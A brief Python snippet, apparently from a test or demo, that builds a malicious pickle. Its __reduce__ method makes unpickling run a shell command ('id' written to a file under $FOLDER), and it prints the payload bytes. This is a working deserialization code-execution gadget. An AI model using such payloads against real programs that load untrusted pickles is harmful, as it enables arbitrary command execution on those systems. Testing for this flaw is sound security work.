# Pickle that reduces to a call.
import pickle
class Call:
    def __reduce__(self): return (os.system, ("id > $FOLDER/e",))
quietly(lambda: pickle.loads(pickle.dumps(Call())))
print(pickle.dumps(Call()))
